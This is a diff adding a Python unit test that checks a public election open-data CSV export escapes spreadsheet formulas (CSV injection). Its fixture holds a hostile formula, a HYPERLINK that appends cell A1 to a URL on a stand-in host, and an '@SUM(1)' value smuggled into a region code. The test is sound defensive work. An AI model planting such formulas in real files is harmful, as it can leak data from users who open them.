@@ -385,3 +385,25 @@ def test_the_decree_figures_are_published_under_a_rule_set_this_server_does_not_
     odd = views.requirement({**newer, "rule_set": "pilkada-2024", "kind": "presiden",
                              "official_threshold": 70})  # fmt: skip
     assert (odd.threshold, odd.threshold_source) == (70, "decree")
+
+
+def test_the_open_data_csv_never_hands_a_spreadsheet_a_formula() -> None:
+    """dukungan.csv is opened in spreadsheets by the public; an election's name (typed
+    by an operator) or a sub-region code (pushed by a client) starting with = + - @
+    must show as text, never run (OWASP CSV injection), as the desktop's exports do."""
+    import csv
+    import io
+
+    from sync.server.public.pages import open_data_csv
+
+    name = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Unduh")'
+    structure = views.Structure(
+        elections={"e": {"id": "e", "name": name, "kind": "bupati", "rule_set": "pilkada-2024"}},
+        pairs={"p": {"id": "p", "election_id": "e", "number": 1}},
+    )
+    cell = {"submitted": 1, "ms": 1, "bms": 0, "tms": 0, "pending": 0}
+    text = open_data_csv(structure, {"p": {"submission": {"@SUM(1)": cell}}}).decode("utf-8")
+    [row] = list(csv.DictReader(io.StringIO(text)))
+    assert row["election_name"] == "'" + name
+    assert row["subregion_code"] == "'@SUM(1)"
+    assert (row["pair_number"], row["ms"]) == ("1", "1")  # numbers stay numbers
